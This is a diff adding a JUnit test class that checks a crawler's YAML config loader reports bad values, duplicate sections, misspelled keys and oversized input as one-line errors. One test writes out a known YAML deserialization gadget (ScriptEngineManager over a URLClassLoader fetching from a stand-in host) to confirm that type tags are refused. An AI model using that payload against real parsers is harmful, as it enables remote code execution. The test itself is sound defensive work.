@@ -1,0 +1,154 @@
+package dev.linkkeeper.hostile;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowable;
+
+import dev.linkkeeper.config.ConfigException;
+import dev.linkkeeper.config.ConfigLoader;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Every key of the documented {@code config/crawler.yaml} given a bad value, in place in the
+ * real file: the error is one line naming the file, the line and the key.
+ */
+class BadConfigTest {
+  private static final Path DOCUMENTED = Path.of("config", "crawler.yaml");
+  private static final Pattern KEY = Pattern.compile("^(\\s*)([a-z_]+):(.*)$");
+
+  /** A bad value for each key, by dotted name. A key added to the file without one fails the test. */
+  static final Map<String, String> BAD = new LinkedHashMap<>();
+
+  static {
+    BAD.put("lists", "5");
+    BAD.put("exclude", "['(unclosed']");
+    BAD.put("http.user_agent", "[a, b]");
+    BAD.put("http.accept_language", "{zh: 1}");
+    BAD.put("http.connect_timeout", "-5s");
+    BAD.put("http.read_timeout", "0s");
+    BAD.put("http.call_timeout", "forever");
+    BAD.put("http.max_body_bytes", "10");
+    BAD.put("http.max_redirects", "-1");
+    BAD.put("http.proxy", "'http://'");
+    BAD.put("http.ca_certs", "corp.pem");
+    BAD.put("http.allow_private", "maybe");
+    BAD.put("politeness.concurrency", "0");
+    BAD.put("politeness.per_host", "lots");
+    BAD.put("politeness.retries", "-1");
+    BAD.put("politeness.backoff", "0ms");
+    BAD.put("politeness.max_retry_after", "1.5s");
+    BAD.put("politeness.respect_crawl_delay", "7");
+    BAD.put("check.out", "[a]");
+    BAD.put("check.db", "{x: 1}");
+    BAD.put("check.fail_on", "sometimes");
+    BAD.put("check.progress_interval", "0s");
+    BAD.put("sites.arxiv_api", "ftp://export.arxiv.org/api/query");
+    BAD.put("sites.arxiv_batch_size", "0");
+    BAD.put("sites.arxiv_interval", "3 fortnights");
+    BAD.put("sites.youtube_oembed", "www.youtube.com/oembed");
+    BAD.put("sites.bilibili_api", "'  '");
+    BAD.put("sites.github_api", "[https://api.github.com]");
+  }
+
+  @TempDir Path dir;
+
+  @Test
+  void everyKeyOfTheDocumentedFileWithABadValueNamesFileLineAndKey() throws IOException {
+    List<String> lines = Files.readAllLines(DOCUMENTED);
+    List<String> seen = new ArrayList<>();
+    String section = "";
+    for (int i = 0; i < lines.size(); i++) {
+      Matcher m = KEY.matcher(lines.get(i));
+      if (!m.matches()) continue;
+      boolean top = m.group(1).isEmpty();
+      if (top && m.group(3).isBlank() && !m.group(2).equals("lists")) {
+        section = m.group(2) + ".";
+        continue;
+      }
+      String key = (top ? "" : section) + m.group(2);
+      seen.add(key);
+      assertThat(BAD).as("a bad value for %s", key).containsKey(key);
+      Path file = Files.write(dir.resolve("crawler.yaml"), withValue(lines, i, BAD.get(key)));
+
+      Throwable t = catchThrowable(() -> ConfigLoader.load(file));
+
+      assertThat(t).as(key).isInstanceOf(ConfigException.class)
+          .hasMessageStartingWith(file + ":" + (i + 1) + ": " + key + ": ")
+          .hasMessageNotContaining("\n").hasMessageNotContaining("Exception");
+    }
+    assertThat(seen).containsExactlyElementsOf(BAD.keySet());
+  }
+
+  /** The file with line {@code i} given another value (and a block list under it dropped). */
+  private static List<String> withValue(List<String> lines, int i, String value) {
+    List<String> copy = new ArrayList<>(lines);
+    Matcher m = KEY.matcher(copy.get(i));
+    if (!m.matches()) throw new IllegalArgumentException(copy.get(i));
+    copy.set(i, m.group(1) + m.group(2) + ": " + value);
+    while (i + 1 < copy.size() && copy.get(i + 1).trim().startsWith("- ")) copy.remove(i + 1);
+    return copy;
+  }
+
+  private Throwable load(String yaml) throws IOException {
+    Path file = Files.writeString(dir.resolve("c.yaml"), yaml);
+    return catchThrowable(() -> ConfigLoader.load(file));
+  }
+
+  private String file() {
+    return dir.resolve("c.yaml").toString();
+  }
+
+  @Test
+  void aSectionWrittenTwiceIsAnErrorRatherThanTheLastOneWinning() throws IOException {
+    assertThat(load("http:\n  proxy: ''\npoliteness:\n  retries: 1\nhttp:\n  allow_private: true\n"))
+        .isInstanceOf(ConfigException.class).hasMessage(file() + ":5: not valid YAML: Duplicate field 'http'");
+  }
+
+  @Test
+  void aMisspelledSectionIsAnUnknownKey() throws IOException {
+    assertThat(load("# mine\nhtpp:\n  proxy: x\n")).isInstanceOf(ConfigException.class)
+        .hasMessage(file() + ":2: htpp: unknown key 'htpp' (known: check, exclude, http, lists, politeness, sites)");
+  }
+
+  @Test
+  void aNumberTooLargeForItsKeyNamesTheKey() throws IOException {
+    assertThat(load("politeness:\n  concurrency: 99999999999999\n")).isInstanceOf(ConfigException.class)
+        .hasMessage(file() + ":2: politeness.concurrency: '99999999999999' is out of range for a whole number");
+  }
+
+  @Test
+  void aListWhereTheFileShouldBeAMappingIsExplained() throws IOException {
+    assertThat(load("- http\n- politeness\n")).isInstanceOf(ConfigException.class)
+        .hasMessage(file() + ":1: expected mapping of keys here");
+  }
+
+  @Test
+  void tabIndentationIsAOneLineYamlError() throws IOException {
+    assertThat(load("http:\n\tproxy: x\n")).isInstanceOf(ConfigException.class)
+        .hasMessageStartingWith(file() + ":").hasMessageContaining("not valid YAML").hasMessageNotContaining("\n");
+  }
+
+  @Test
+  void yamlTypeTagsNeverInstantiateClasses() throws IOException {
+    assertThat(load("lists: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"))
+        .isInstanceOf(ConfigException.class).hasMessage(file() + ":1: lists[0]: expected text here");
+  }
+
+  @Test
+  void anEndlessDeviceOrADirectoryAsConfigIsRefusedInOneLine() {
+    org.junit.jupiter.api.Assumptions.assumeTrue(Files.isReadable(Path.of("/dev/zero")), "no /dev/zero here");
+    assertThat(catchThrowable(() -> ConfigLoader.load(Path.of("/dev/zero"))))
+        .isInstanceOf(ConfigException.class).hasMessage("/dev/zero: over 1 MiB, not a config file");
+    assertThat(catchThrowable(() -> ConfigLoader.load(dir)))
+        .isInstanceOf(ConfigException.class).hasMessage(dir + ": cannot read config file (Is a directory)");
+  }
+}
